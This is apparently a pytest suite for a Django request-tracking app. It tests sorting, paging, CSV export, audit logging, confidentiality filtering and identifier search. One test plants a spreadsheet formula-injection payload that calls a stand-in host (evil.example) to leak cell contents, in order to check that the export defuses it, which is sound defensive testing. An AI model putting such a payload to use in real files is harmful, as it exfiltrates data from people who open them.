"""The request list people work from (issue 15): what identifies each
request, sorting by every column, pages, a CSV export of the same rows,
search on the type's own identifiers — all within need-to-know (a
confidential request stays out of an outsider's rows, counts and exports;
what a listed request's reader alone may see stays out of the rest)."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from django.urls import reverse

from accord.cases.models import Case
from accord.core.models import AuditEvent, AuditStaged
from accord.core.roles import Role
from accord.federation.models import Peer
from tests.assistance.stored import stored_request
from tests.objects import make_partner

pytestmark = pytest.mark.django_db

LIST = reverse("assistance:list")
EXPORT = reverse("assistance:export")
T0 = datetime(2026, 3, 1, tzinfo=UTC)


def listed(response) -> list[str]:
    """The references of the rows of a list page, in order."""
    assert response.status_code == 200
    return re.findall(r'<tr data-reference="([^"]+)"', response.content.decode())


def exported(response) -> list[list[str]]:
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def second_partner(first: Peer) -> Peer:
    return Peer.objects.create(
        node_id="aa.first",
        url="http://127.0.0.1:9/",
        party="Other",
        agency="Other Agency",
        signing_key=first.signing_key,
        encryption_key=first.encryption_key,
        fingerprint="2" * 64,
    )


def make_case(reference: str, title: str) -> Case:
    return Case.objects.create(
        id=uuid.uuid4(), reference=reference, title=title, title_language="en", created_at=T0
    )


@pytest.fixture
def three(users):
    """Three requests that differ in every column; each column orders them
    differently from the reference."""
    partner = make_partner()  # yy.test: after aa.first
    other = second_partner(partner)
    return {
        # reference, summary, direction, partner, type, urgency, state, deadline, case
        "LST-1": stored_request(
            partner,
            "LST-1",
            summary="Charlie: ransomware payments\nsecond line",
            outgoing=True,
            request_type="general_evidence",
            urgency="standard",
            state="received",
            received_at=T0,
            decision_due=T0 + timedelta(days=30),
            case=make_case("C-1", "Bravo case"),
        ),
        "LST-2": stored_request(
            other,
            "LST-2",
            summary="Alpha: phishing kit",
            outgoing=False,
            request_type="preservation",
            urgency="emergency",
            state="screening",
            received_at=T0,
            decision_due=T0 + timedelta(days=2),
            case=make_case("C-2", "Charlie case"),
        ),
        "LST-3": stored_request(
            partner,
            "LST-3",
            summary="Bravo: mule accounts",
            outgoing=True,
            request_type="data_order",
            urgency="urgent",
            state="closed",
            case=make_case("C-3", "Alpha case"),
        ),
    }


def labels_order(client, column: str) -> list[str]:
    return listed(client.get(LIST, {"sort": column}))


def test_each_row_shows_what_identifies_the_work(three, client_for):
    page = client_for(Role.CENTRAL_AUTHORITY).get(LIST).content.decode()
    assert "Charlie: ransomware payments" in page
    assert "second line" not in page  # the summary's first line only
    assert "Bravo case" in page and reverse("cases:detail", args=[three["LST-1"].case_id]) in page
    assert "aa.first" in page


@pytest.mark.parametrize(
    ("column", "ascending"),
    [
        ("reference", ["LST-1", "LST-2", "LST-3"]),
        ("summary", ["LST-2", "LST-3", "LST-1"]),
        ("outgoing", ["LST-2", "LST-1", "LST-3"]),  # incoming first, ties by reference
        ("partner", ["LST-2", "LST-1", "LST-3"]),  # aa.first first
        # By the label read, not the code: "Expedited preservation…", "General
        # evidence", "Subscriber, traffic or content data…"
        ("request_type", ["LST-2", "LST-1", "LST-3"]),
        ("urgency", ["LST-2", "LST-3", "LST-1"]),  # emergency, urgent, standard
        ("state", ["LST-3", "LST-1", "LST-2"]),  # Closed, Received, Screening
        ("deadline", ["LST-2", "LST-1", "LST-3"]),  # 2 days, 30 days, none (closed)
        ("case", ["LST-3", "LST-1", "LST-2"]),  # Alpha, Bravo, Charlie case
    ],
)
def test_the_list_sorts_by_each_column(three, client_for, column, ascending):
    client = client_for(Role.CENTRAL_AUTHORITY)
    assert labels_order(client, column) == ascending
    assert labels_order(client, f"-{column}") == ascending[::-1]


def test_every_column_header_offers_sorting(three, client_for):
    page = client_for(Role.CENTRAL_AUTHORITY).get(LIST, {"sort": "state"}).content.decode()
    for column in ("reference", "summary", "outgoing", "partner", "request_type", "urgency"):
        assert f'data-testid="sort-{column}"' in page
    assert 'aria-sort="ascending"' in page
    assert "sort=-state" in page  # the sorted column's link reverses it


def test_the_list_pages(users, client_for):
    partner = make_partner()
    for n in range(30):
        stored_request(partner, f"PG-{n:02d}", created_at=T0 + timedelta(minutes=n))
    client = client_for(Role.CENTRAL_AUTHORITY)
    first = listed(client.get(LIST, {"sort": "reference"}))
    second = listed(client.get(LIST, {"sort": "reference", "page": 2}))
    assert first == [f"PG-{n:02d}" for n in range(25)]
    assert second == [f"PG-{n:02d}" for n in range(25, 30)]
    small = listed(client.get(LIST, {"sort": "-reference", "per_page": 10, "page": 3}))
    assert small == [f"PG-{n:02d}" for n in range(9, -1, -1)]
    page = client.get(LIST, {"page": 2}).content.decode()
    assert "30 rows · page 2 of 2" in page
    assert 'rel="prev"' in page and 'rel="next"' not in page
    # Past the last page: the last page, not an error.
    assert listed(client.get(LIST, {"sort": "reference", "page": 99})) == second


def test_the_export_holds_the_filtered_rows_of_every_page_in_order(users, client_for):
    partner = make_partner()
    for n in range(30):
        stored_request(partner, f"EX-{n:02d}", urgency="urgent" if n % 3 else "standard")
    client = client_for(Role.CENTRAL_AUTHORITY)
    response = client.get(EXPORT, {"urgency": "urgent", "sort": "-reference", "page": 1})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="requests-')
    rows = exported(response)
    assert rows[0] == [
        "Reference",
        "Summary",
        "Direction",
        "Partner",
        "Type",
        "Urgency",
        "State",
        "Next deadline",
        "Case",
    ]
    urgent = [f"EX-{n:02d}" for n in range(29, -1, -1) if n % 3]
    assert [row[0] for row in rows[1:]] == urgent  # every page's, not the first page's
    assert rows[1][1:8] == [
        "Plain facts",
        "outgoing",
        "yy.test",
        "Subscriber, traffic or content data (EPOC-like)",
        "Urgent",
        "Submitted",
        "",
    ]


def test_the_export_is_audited_as_an_export_of_each_request(three, client_for):
    client = client_for(Role.AUDITOR)
    client.get(EXPORT, {"sort": "reference"})
    staged = AuditStaged.objects.filter(action="assistance:request:export")
    events = AuditEvent.objects.filter(action="assistance:request:export")
    recorded = [e.data for e in staged] + [e.data for e in events]
    assert len(recorded) == 1
    assert recorded[0]["how"] == "csv"
    assert recorded[0]["references"] == ["LST-1", "LST-2", "LST-3"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_that_would_start_a_formula_is_exported_as_text(users, client_for, start):
    peer = make_partner()
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    stored_request(peer, "INJ-1", summary=formula)
    rows = exported(client_for(Role.CENTRAL_AUTHORITY).get(EXPORT))
    assert rows[1][0] == "INJ-1"
    assert rows[1][1] == "'" + formula


@pytest.fixture
def confidential(users):
    """A confidential request of the prosecutor's (the investigator is not on
    its team) beside an ordinary one."""
    peer = make_partner()
    stored_request(peer, "OPEN-1", created_by=users[Role.PROSECUTOR])
    secret = stored_request(
        peer, "CONF-1", created_by=users[Role.PROSECUTOR], confidential=True, summary="Sealed"
    )
    secret.team.add(users[Role.PROSECUTOR])
    return secret


def test_a_confidential_request_is_absent_for_someone_outside_its_team(confidential, client_for):
    outsider = client_for(Role.INVESTIGATOR)
    response = outsider.get(LIST)
    assert listed(response) == ["OPEN-1"]
    assert "1 row · page 1 of 1" in response.content.decode()
    assert "CONF-1" not in response.content.decode()
    assert [row[0] for row in exported(outsider.get(EXPORT))[1:]] == ["OPEN-1"]
    # Nor does a search or a filter on it count it.
    assert listed(outsider.get(LIST, {"q": "CONF"})) == []
    insider = client_for(Role.PROSECUTOR)
    assert sorted(listed(insider.get(LIST))) == ["CONF-1", "OPEN-1"]
    assert "2 rows · page 1 of 1" in insider.get(LIST).content.decode()
    assert sorted(row[0] for row in exported(insider.get(EXPORT))[1:]) == ["CONF-1", "OPEN-1"]


def test_a_listed_request_shows_its_summary_and_case_only_to_its_readers(users, client_for):
    peer = make_partner()
    stored_request(
        peer,
        "HID-1",
        created_by=users[Role.PROSECUTOR],
        summary="Zebra informant",
        case=make_case("C-H", "Yak operation"),
    )
    stored_request(peer, "HID-2", created_by=users[Role.INVESTIGATOR], summary="Aardvark")
    outsider = client_for(Role.INVESTIGATOR)
    page = outsider.get(LIST).content.decode()
    assert "HID-1" in page and "Zebra" not in page and "Yak operation" not in page
    csv_rows = exported(outsider.get(EXPORT))
    assert "Zebra informant" not in str(csv_rows) and "Yak operation" not in str(csv_rows)
    # Sorting on the hidden summary does not place the row by it: it sorts
    # as an empty summary, before "Aardvark" ascending.
    assert listed(outsider.get(LIST, {"sort": "summary"})) == ["HID-1", "HID-2"]
    assert listed(outsider.get(LIST, {"sort": "case"}))[0] == "HID-1"
    reader = client_for(Role.PROSECUTOR)
    assert "Zebra informant" in reader.get(LIST).content.decode()
    assert listed(reader.get(LIST, {"sort": "summary"})) == ["HID-2", "HID-1"]


@pytest.fixture
def identified(users):
    """A data order naming an IP address, a phone number and an account in
    its own fields, drafted by the prosecutor: the investigator lists it but
    may not open it."""
    peer = make_partner()
    details = {
        "data_category": "subscriber",
        "identifiers": [
            {"kind": "ip", "value": "203.0.113.7", "observed_at": "2026-02-01T10:00:00Z"},
            {"kind": "phone", "value": "+8613800138000", "observed_at": None},
            {"kind": "account", "value": "Mule-Acct-4471", "observed_at": None},
        ],
        "issuer": "Court",
        "issuer_is_judicial": True,
    }
    stored_request(peer, "IDN-1", created_by=users[Role.PROSECUTOR], details=details)
    stored_request(peer, "IDN-2", created_by=users[Role.PROSECUTOR])
    return details


@pytest.mark.parametrize(
    "term",
    [
        "203.0.113.7",
        "::ffff:203.0.113.7",  # the same address, written as IPv6
        "+86 138 0013 8000",  # the same number, spaced
        "mule-acct-4471",
    ],
)
def test_search_finds_a_type_specific_identifier_for_its_readers_only(identified, client_for, term):
    for reader in (Role.PROSECUTOR, Role.CENTRAL_AUTHORITY, Role.AUDITOR):
        assert listed(client_for(reader).get(LIST, {"q": term})) == ["IDN-1"], reader
    outsider = client_for(Role.INVESTIGATOR)
    assert sorted(listed(outsider.get(LIST))) == ["IDN-1", "IDN-2"]  # listed ...
    assert listed(outsider.get(LIST, {"q": term})) == []  # ... but not found by its content
    assert exported(outsider.get(EXPORT, {"q": term}))[1:] == []


def test_search_does_not_match_the_names_of_the_stored_fields(identified, client_for):
    client = client_for(Role.CENTRAL_AUTHORITY)
    assert listed(client.get(LIST, {"q": "issuer_is_judicial"})) == []
    assert listed(client.get(LIST, {"q": "203.0.113.8"})) == []


def test_a_bad_filter_value_is_reported_and_ignored(three, client_for):
    response = client_for(Role.CENTRAL_AUTHORITY).get(LIST, {"state": "nonsense"})
    assert sorted(listed(response)) == ["LST-1", "LST-2", "LST-3"]
    assert 'class="error"' in response.content.decode()


def test_the_list_reads_in_chinese_and_sorts_by_the_chinese_labels(three, users, client_for):
    user = users[Role.CENTRAL_AUTHORITY]
    user.language = "zh-hans"
    user.save()
    client = client_for(Role.CENTRAL_AUTHORITY)
    page = client.get(LIST, {"sort": "state"}).content.decode()
    assert "导出 CSV" in page and "共 3 行 · 第 1 页，共 1 页" in page
    assert "摘要" in page
    assert 'placeholder="案件编号"' in page  # the case filter's hint too
    # By the labels read in Chinese, ascending by their code points.
    labels = {"LST-1": "已收到", "LST-2": "审查", "LST-3": "已办结"}
    expected = sorted(labels, key=lambda ref: labels[ref])
    for ref, label in labels.items():
        assert label in page, (ref, label)
    assert listed(client.get(LIST, {"sort": "state"})) == expected
    header = exported(client.get(EXPORT))[0]
    assert header[0] != "Reference" and "摘要" in header


def test_a_page_holds_at_most_200_rows(users, client_for):
    partner = make_partner()
    for n in range(205):
        stored_request(partner, f"BIG-{n:03d}")
    client = client_for(Role.CENTRAL_AUTHORITY)
    assert len(listed(client.get(LIST, {"per_page": 100000}))) == 200
    assert len(listed(client.get(LIST, {"per_page": "x", "page": "y"}))) == 25


def test_a_page_costs_the_same_queries_whatever_its_number_of_rows(users, client_for):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    partner = make_partner()
    client = client_for(Role.CENTRAL_AUTHORITY)

    def queries_for_page() -> int:
        with CaptureQueriesContext(connection) as captured:
            client.get(LIST, {"sort": "deadline"})
        return len(captured)

    for n in range(3):
        stored_request(partner, f"Q-{n:02d}", received_at=T0, decision_due=T0, case=None)
    few = queries_for_page()
    for n in range(3, 25):
        stored_request(partner, f"Q-{n:02d}", received_at=T0, decision_due=T0, case=None)
    assert queries_for_page() == few
